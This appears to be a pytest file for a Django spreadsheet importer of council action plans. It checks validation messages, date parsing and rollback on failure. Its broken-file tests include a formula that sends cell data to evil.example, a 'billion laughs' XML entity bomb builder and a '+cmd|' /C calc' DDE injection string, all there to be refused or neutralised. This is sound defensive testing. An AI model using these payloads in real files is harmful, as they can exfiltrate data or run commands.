"""Every problem in a file is listed at once, plainly, and nothing is written unless all is well.

Includes the corpus of broken files: empty, not a spreadsheet, an old .xls, a zip
bomb, too big, too many rows, formulas, entity expansion, wrong types. Each gives
a clear message, never an exception, and never a partial import.
"""

import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.core.management.base import CommandError
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from actions.models import Action
from actions.spreadsheet.example import example_records
from actions.spreadsheet.plan import _relations, check_constraints
from actions.spreadsheet.reader import Upload, parse_date, read_uploads
from actions.spreadsheet.template import MAX_FILE_BYTES, MAX_ROWS, MEASUREMENTS
from actions.spreadsheet.writer import csv_files, statement_csv_files, statement_workbook
from workstreams.models import Owner, Statement, SuccessMeasure

from .spreadsheet_builders import (
    BROKEN,
    edited,
    example_workbook,
    import_file,
    messages,
    plan_for,
    row_of,
    table_counts,
    workbook,
    zipped,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for help")'


@pytest.fixture(scope="module")
def template():
    return example_workbook()


def problems_of(data, name="statement.xlsx"):
    return messages(plan_for(data, name))


# The messages ----------------------------------------------------------------------------


def test_a_date_that_does_not_exist_is_named_by_row_and_column(template):
    # Row 14 of the actions sheet is action 2.7.
    data = edited(template, {("actions", "2.7", "due_date"): "31/02/2019"})
    assert problems_of(data) == ["Row 14, due date: 31/02/2019 is not a date"]


@pytest.mark.parametrize(
    "typed",
    ["31/03/2019", "2019-03-31", "31 March 2019", "31 Mar 2019", "31st March 2019", "31/3/19"],
)
def test_dates_are_read_as_councils_type_them(typed):
    assert parse_date(typed) == datetime.date(2019, 3, 31)


def test_excel_date_cells_and_typed_dates_import_alike(template, manager):
    data = edited(
        template,
        {
            ("actions", "2.7", "start_date"): datetime.datetime(2019, 3, 31),
            ("actions", "2.7", "due_date"): "31 March 2020",
            ("actions", "3.1", "due_date"): "2018-06-30",
            ("measurements", "M1", "measured_on"): "31/08/2018",
        },
    )
    import_file(data, manager)
    action = Action.objects.get(reference="2.7")
    assert (action.start_date, action.due_date) == (
        datetime.date(2019, 3, 31),
        datetime.date(2020, 3, 31),
    )
    assert Action.objects.get(reference="3.1").due_date == datetime.date(2018, 6, 30)


def row(sheet, key):
    """The row of the template's example where `sheet` has `key` in its first column."""
    records = example_records()[sheet]
    first = next(iter(records[0]))
    return next(n for n, record in enumerate(records, start=2) if record[first] == key)


def test_every_problem_is_listed_at_once_and_nothing_is_written(template, manager, tmp_path):
    counts = table_counts()
    data = edited(
        template,
        {
            ("actions", "2.7", "due_date"): "31/02/2019",
            ("actions", "2.6", "owner_job_title"): "Chief Wizard",
            ("actions", "3.1", "reference"): "1.1",
            ("actions", "3.2", "workstream_number"): 9,
            ("actions", "3.3", "measure_references"): "M1;M99",
            ("actions", "1.2", "status"): "nearly done",
            ("workstreams", 2, "weakness_numbers"): "2;7",
            ("measures", "M1", "baseline_value"): "lots",
            ("measurements", "M2", "measured_on"): "yesterday",
            ("weaknesses", 3, "title"): None,
            ("owners", "Co-chair", "email"): "not an address",
        },
    )
    owner_of_2_6 = example_records()["actions"][row("actions", "2.6") - 2]["owner_organisation"]
    assert owner_of_2_6 == "ccg"
    assert problems_of(data) == [
        f"Row {row('owners', 'Co-chair')}, email: Enter a valid email address.",
        "Row 4, title: this cell is empty",
        "Row 3, weakness numbers: there is no weakness 7 in the weaknesses sheet",
        "Row 2, baseline value: lots is not a number",
        "Row 3, status: “nearly done” is not one of: Not started, In progress, Complete",
        "Row 13, owner job title: “Chief Wizard” (Sutton Clinical Commissioning Group) is not in "
        "the owners sheet",
        "Row 14, due date: 31/02/2019 is not a date",
        "Row 15, reference: 1.1 is also in row 2",
        "Row 16, workstream number: there is no workstream 9 in the workstreams sheet",
        "Row 17, measure references: there is no measure M99 in the measures sheet",
        f"Row {row('measurements', 'M2')}, measured on: yesterday is not a date",
    ]
    plan = plan_for(data)
    assert [p.sheet for p in plan.problems] == [
        "owners",
        "weaknesses",
        "workstreams",
        "measures",
        *["actions"] * 6,
        "measurements",
    ]
    assert table_counts() == counts

    path = tmp_path / "broken.xlsx"
    path.write_bytes(data)
    errors = io.StringIO()
    with pytest.raises(CommandError, match="Nothing was imported: 11 problem"):
        call_command(
            "import_statement",
            str(path),
            "--user",
            manager.username,
            stdout=io.StringIO(),
            stderr=errors,
        )
    assert "actions sheet: Row 14, due date: 31/02/2019 is not a date" in errors.getvalue()
    assert table_counts() == counts


def test_an_unknown_owner_is_reported_with_a_hint_when_only_the_case_differs(template):
    data = edited(
        template, {("actions", "2.6", "owner_job_title"): "head of children's joint commissioning"}
    )
    assert problems_of(data) == [
        "Row 13, owner job title: “head of children's joint commissioning” (Sutton Clinical "
        "Commissioning Group) is not in the owners sheet: did you mean “Head of Children's Joint "
        "Commissioning”?"
    ]


IASS = "Sutton Information, Advice and Support Service"
IASS_MANAGER = "Information, Advice and Support Service Manager"


def an_action_of_the_iass():
    return next(
        record["reference"]
        for record in example_records()["actions"]
        if record["owner_organisation"] == IASS
    )


# Naming it in the file instead would make a second owner, and leave the first behind.
AN_OWNER_SAVED_WITHOUT_ONE = (
    " (for an owner saved without one, give it on the owner's page first and export again, "
    "so the import keeps that owner)"
)


def test_other_is_refused_with_a_request_for_the_organisations_name(template):
    reference = an_action_of_the_iass()
    data = edited(
        template,
        {
            ("owners", IASS_MANAGER, "organisation"): "other",
            ("actions", reference, "owner_organisation"): "Other partner",
        },
    )
    assert problems_of(data) == [
        f"Row {row('owners', IASS_MANAGER)}, organisation: write the organisation's name "
        f"instead of “other”{AN_OWNER_SAVED_WITHOUT_ONE}",
        f"Row {row('actions', reference)}, owner organisation: write the organisation's name "
        f"instead of “Other partner”{AN_OWNER_SAVED_WITHOUT_ONE}",
    ]


def test_an_owner_saved_before_names_were_kept_must_be_named_to_import_again(manager):
    statement = import_file(example_workbook(), manager).statement
    Owner.objects.filter(job_title=IASS_MANAGER).update(organisation_name="")
    exported = statement_workbook(statement)
    assert row_of(exported, "owners", IASS_MANAGER)["organisation"] == "other"
    assert (
        f"Row {row('owners', IASS_MANAGER)}, organisation: write the organisation's name "
        f"instead of “other”{AN_OWNER_SAVED_WITHOUT_ONE}"
    ) in problems_of(exported)


def test_an_unknown_organisation_outside_the_list_gets_a_hint_when_only_the_case_differs(
    template,
):
    reference = an_action_of_the_iass()
    data = edited(template, {("actions", reference, "owner_organisation"): IASS.lower()})
    assert problems_of(data) == [
        f"Row {row('actions', reference)}, owner job title: “{IASS_MANAGER}” ({IASS.lower()}) "
        f"is not in the owners sheet: did you mean “{IASS_MANAGER}” ({IASS})?"
    ]


def test_a_new_measure_whose_unit_cannot_be_read_is_reported_once_on_its_own_row(template):
    new = example_records()["measures"][0] | {"reference": "M99", "unit": "furlongs"}
    figure = {"measure_reference": "M99", "measured_on": datetime.date(2018, 8, 31), "value": 5}
    data = edited(
        template,
        {
            ("measures", None, None): new,
            ("measurements", None, None): figure,
            ("actions", "3.3", "measure_references"): "M1;M99",
        },
    )
    problems = problems_of(data)
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"Row {len(example_records()['measures']) + 2}, unit: ")
    assert "furlongs" in problems[0]


def test_duplicate_keys_are_reported_in_every_sheet(template):
    records = example_records()
    data = edited(
        template,
        {
            ("weaknesses", None, 1): records["weaknesses"][0],
            ("measures", None, 1): records["measures"][0],
            ("measurements", None, 1): {
                **records["measurements"][0],
                "measured_on": datetime.datetime(2018, 8, 31),
            },
        },
    )
    assert problems_of(data) == [
        "Row 5, number: 1 is also in row 2",
        f"Row {len(records['measures']) + 2}, reference: M1 is also in row 2",
        f"Row {len(records['measurements']) + 2}, measured on: M1 on 31 Aug 2018 is also in row 2",
    ]


def test_the_models_rules_are_reported_by_row(template):
    data = edited(
        template,
        {
            ("actions", "2.7", "due_date"): "01/01/2020",  # before its start, 2 March 2020
            ("actions", "2.6", "confidence"): "",  # allowed: confidence is optional
            ("actions", "2.5", "completed_on"): None,  # but it is complete
            ("measures", "M3", "target_value"): 48,  # the same as the baseline
            ("measurements", "M4", "value"): 140,  # a percentage
        },
    )
    assert problems_of(data) == [
        "Row 4: The target must differ from the baseline.",
        "Row 4: The target must be better than the baseline in the direction the measure says "
        "is better.",
        "Row 12, completed on: Enter the date the action was completed.",
        "Row 12: Give a completion date if, and only if, the action is complete.",
        "Row 14: The due date cannot be before the start date.",
        f"Row {row('measurements', 'M4')}, value: Enter a percentage between 0 and 100.",
    ]


def test_a_milestone_off_the_measures_trajectory_is_refused(template, manager):
    """A milestone outside the starting value's date and the target date, as the row
    leaves them, would silently never be used: the import refuses it, as the form does.
    The example's M1 runs from 31 August 2017 to 31 August 2020."""
    statement = import_file(template, manager, name="template.xlsx").statement
    exported = statement_workbook(statement)
    after_target = edited(exported, {("measures", "M1", "milestones"): "31/08/2030=185"})
    target_moved = edited(exported, {("measures", "M1", "target_date"): "30/09/2018"})
    assert problems_of(after_target) == [
        "Row 2, milestones: 31/08/2030: The date must be after 31 August 2017, the date of "
        "the starting value, and before 31 August 2020, the target date."
    ]
    # The file keeps its milestone for 31 August 2019, after the new target date.
    assert problems_of(target_moved) == [
        "Row 2, milestones: 31/08/2019: The date must be after 31 August 2017, the date of "
        "the starting value, and before 30 September 2018, the target date."
    ]
    measure = SuccessMeasure.objects.get(statement=statement, reference="M1")
    assert measure.target_date == datetime.date(2020, 8, 31)


def test_wrong_types_are_named_and_a_bad_key_does_not_flood_the_list(template):
    data = edited(
        template,
        {
            ("weaknesses", 1, "number"): "first",
            ("actions", "1.1", "workstream_number"): 1.5,
            ("actions", "1.2", "weakness_numbers"): "one;two",
            ("measures", "M1", "milestones"): "soon=12",
            ("measurements", "M1", "value"): True,
        },
    )
    # Weakness 1 cannot be read, so the rows naming it are not reported until it can.
    assert problems_of(data) == [
        "Row 2, number: first is not a whole number",
        "Row 2, milestones: “soon=12” is not a date=figure pair such as 31/07/2019=90",
        "Row 2, workstream number: 1.5 is not a whole number",
        "Row 3, weakness numbers: one;two is not a list of numbers such as 1;2",
        "Row 2, value: True is not a number",
    ]


def test_a_sheet_without_its_columns_says_which_are_missing():
    data = workbook(
        {"weaknesses": [["number", "title"], [1, "A weakness"]], "statement": [["slug"]]}
    )
    assert problems_of(data) == [
        "Row 1: The header row has no “local_area”, “title”, “summary”, “inspection_published_on”, "
        "“submitted_on”, “evaluated_on” or “evaluation_outcome” columns. Row 1 of each sheet names "
        "its columns, as in the template.",
        "Row 1: The header row has no “finding” or “response” columns. Row 1 of each sheet names "
        "its columns, as in the template.",
    ]


def test_a_file_without_a_statement_needs_one_named(template):
    records = example_records()
    files = csv_files({"weaknesses": records["weaknesses"]})
    plan = plan_for({"weaknesses.csv": files["weaknesses.csv"]})
    assert messages(plan) == [
        "The file has no statement sheet: say which statement to import into."
    ]
    plan = plan_for({"weaknesses.csv": files["weaknesses.csv"]}, slug="nowhere")
    assert messages(plan) == [
        "There is no statement “nowhere” yet, and the file has no statement sheet to make it from."
    ]


def test_an_archived_statement_cannot_be_imported_into(template, manager):
    statement = import_file(template, manager).statement
    statement.archive()
    statement.save()
    assert problems_of(template) == [
        f"Row 2: “{statement.title}” is archived: it is kept as a record and cannot be changed."
    ]


def test_a_revised_due_date_cannot_be_taken_away(template, manager):
    import_file(template, manager)
    data = edited(template, {("actions", "1.5", "revised_due_date"): None})
    assert problems_of(data) == [
        "Row 6, revised due date: a revised due date cannot be removed, because revisions are "
        "public: keep 31/07/2019 or give a later date"
    ]


# The corpus of broken files --------------------------------------------------------------


def entity_bomb(template):
    """The template, with a sheet whose XML expands one entity into billions of characters."""
    laughs = ['<!ENTITY a0 "ha">'] + [
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    sheet = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [{"".join(laughs)}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData>'
        "</worksheet>"
    )
    source = zipfile.ZipFile(io.BytesIO(template))
    members = {name: source.read(name) for name in source.namelist()}
    members["xl/worksheets/sheet3.xml"] = sheet.encode()  # the owners sheet
    return zipped(members)


@pytest.mark.parametrize("case", BROKEN)
def test_a_broken_file_gets_a_clear_message(case, manager):
    name, data, expected = BROKEN[case]
    counts = table_counts()
    read = read_uploads([Upload(name, data)])
    assert [str(problem) for problem in read.file_problems] == [expected]
    assert messages(plan_for(data, name)) == [expected]
    assert table_counts() == counts


def test_an_entity_expansion_bomb_is_refused_not_expanded(template):
    assert problems_of(entity_bomb(template)) == [
        "statement.xlsx could not be read as an Excel workbook (.xlsx)."
    ]


def test_too_many_rows_in_a_sheet_is_refused():
    header = MEASUREMENTS.column_names
    rows = [
        ["M1", datetime.date(2000, 1, 1) + datetime.timedelta(n), n, ""]
        for n in range(MAX_ROWS + 1)
    ]
    data = workbook({"measurements": [header, *rows]})
    assert [str(p) for p in read_uploads([Upload("big.xlsx", data)]).problems] == [
        "The measurements sheet has more than 2,000 rows: the most one import accepts. Split it "
        "into more than one file."
    ]


def test_formulas_are_never_worked_out_but_reported(template):
    data = edited(
        template,
        {
            ("actions", "1.1", "title"): "=1+1",
            ("actions", "1.2", "due_date"): "=DATE(2019,3,31)",
            ("measurements", "M1", "value"): "=SUM(1,2)",
        },
    )
    formula = "contains a formula: type the value itself (formulas are never worked out)"
    assert problems_of(data) == [
        f"Row 2, title: {formula}",
        f"Row 3, due date: {formula}",
        f"Row 2, value: {formula}",
    ]


def test_only_the_templates_sheets_are_read(template):
    data = edited(template, {})
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    book.create_sheet("Private notes").append(["=HYPERLINK(1)", "secret"])
    buffer = io.BytesIO()
    book.save(buffer)
    plan = plan_for(buffer.getvalue())
    assert plan.problems == []
    assert plan.notices[0] == "The sheet “Private notes” was not read: it is not in the template."


def test_formula_text_is_kept_as_text_and_neutralised_on_export(template, manager):
    """=HYPERLINK(...) typed as text is data: stored as typed, exported so it never runs."""
    data = edited(template, {("actions", "1.1", "title"): "'" + HYPERLINK})
    import_file(data, manager)
    action = Action.objects.get(reference="1.1")
    assert action.title == HYPERLINK

    exported = statement_workbook(action.statement)
    from openpyxl import load_workbook

    cell = next(
        row[3]
        for row in load_workbook(io.BytesIO(exported))["actions"].iter_rows(min_row=2)
        if row[0].value == "1.1"
    )
    assert cell.data_type == "s"  # a string cell, not a formula
    assert cell.value == "'" + HYPERLINK
    assert row_of(exported, "actions", "1.1")["title"] == "'" + HYPERLINK

    actions_csv = statement_csv_files(action.statement)["actions.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK(" in actions_csv
    assert ",=HYPERLINK(" not in actions_csv
    # ...and the export imports back to the very same text.
    assert not plan_for(exported).has_changes


def test_other_formula_triggers_are_neutralised_too(template, manager):
    statement = import_file(template, manager).statement
    Action.objects.filter(reference="1.2").update(title="+cmd|' /C calc'!A0", summary="@SUM(A1)")
    Action.objects.filter(reference="1.3").update(title="-2+3", summary="-3.5")
    exported = statement_workbook(statement)
    assert row_of(exported, "actions", "1.2")["title"] == "'+cmd|' /C calc'!A0"
    assert row_of(exported, "actions", "1.2")["summary"] == "'@SUM(A1)"
    assert row_of(exported, "actions", "1.3")["title"] == "'-2+3"
    assert row_of(exported, "actions", "1.3")["summary"] == "-3.5"  # a number, not a formula
    assert not plan_for(exported).has_changes


def test_a_failure_while_writing_rolls_everything_back(template, manager, monkeypatch):
    """Belt and braces: if a save fails halfway, nothing of the import is kept."""
    from actions.spreadsheet import apply

    counts = table_counts()
    plan = plan_for(template)
    original = apply._Applier._measurements

    def fail(self):
        original(self)
        raise apply.ValidationError("The database refused a row.")

    monkeypatch.setattr(apply._Applier, "_measurements", fail)
    with pytest.raises(apply.ImportFailed) as failure:
        apply.apply_plan(plan, user=manager, source="statement.xlsx")
    assert [str(p) for p in failure.value.problems] == ["The database refused a row."]
    assert table_counts() == counts
    assert not Statement.objects.exists()


def test_a_cell_longer_than_a_spreadsheet_holds_is_refused():
    records = example_records()
    records["actions"][0]["description"] = "x" * 40_000
    files = csv_files(records)
    assert messages(plan_for(files)) == [
        "Row 2, description: has 40,000 characters: a spreadsheet cell holds at most 32,767"
    ]


def test_the_command_refuses_a_file_over_the_size_limit_before_reading_it(tmp_path):
    path = tmp_path / "huge.xlsx"
    path.write_bytes(b"\0" * (MAX_FILE_BYTES * 2))
    with pytest.raises(
        CommandError, match=r"huge\.xlsx is 10 MB: the largest file accepted is 5 MB"
    ):
        call_command("import_statement", str(path), "--dry-run")


DAYS = st.one_of(
    st.none(), st.integers(0, 3).map(lambda n: datetime.date(2019, 1, 1) + datetime.timedelta(n))
)


@given(
    start=DAYS,
    due=DAYS,
    revised=DAYS,
    completed=DAYS,
    status=st.sampled_from(Action.Status.values),
    confidence=st.sampled_from(["", *Action.Confidence.values]),
    reason=st.sampled_from(["", "Why"]),
    baseline=st.sampled_from([None, Decimal(1), Decimal(2)]),
    target=st.sampled_from([None, Decimal(1), Decimal(2)]),
    direction=st.sampled_from(SuccessMeasure.Direction.values),
)
@hypothesis_settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_rules_worked_out_in_python_agree_with_the_database(
    db, start, due, revised, completed, status, confidence, reason, baseline, target, direction
):
    """The plan checks rows without a query per rule; the database must agree every time."""
    action = Action(
        start_date=start,
        due_date=due,
        revised_due_date=revised,
        completed_on=completed,
        status=status,
        confidence=confidence,
        revision_reason=reason,
    )
    measure = SuccessMeasure(
        baseline_value=baseline,
        target_value=target,
        direction=direction,
        baseline_date=start,
        target_date=due,
    )
    for instance in (action, measure):
        assert _messages(check_constraints, instance) == _messages(_by_database, instance)


def _by_database(instance):
    instance.validate_constraints(exclude=_relations(type(instance)))


def _messages(check, instance):
    try:
        check(instance)
    except ValidationError as error:
        return sorted(error.messages)
    return []


def test_a_column_not_in_the_template_is_said_not_to_be_read(template):
    """Notes typed in a column of one's own are not imported: the preview says so."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(edited(template, {})))
    actions = book["actions"]
    width = actions.max_column
    actions.cell(1, width + 1, "Notes for the board")
    actions.cell(2, width + 1, "Chase HR about the two posts")
    actions.cell(1, width + 2, "title")  # a second title column: the first is read
    buffer = io.BytesIO()
    book.save(buffer)
    plan = plan_for(buffer.getvalue())
    assert plan.problems == []
    assert [n for n in plan.notices if n.startswith("The column")] == [
        "The column “Notes for the board” on the actions sheet was not read: "
        "it is not in the template.",
        "The column “title” on the actions sheet was not read: it is there twice.",
    ]
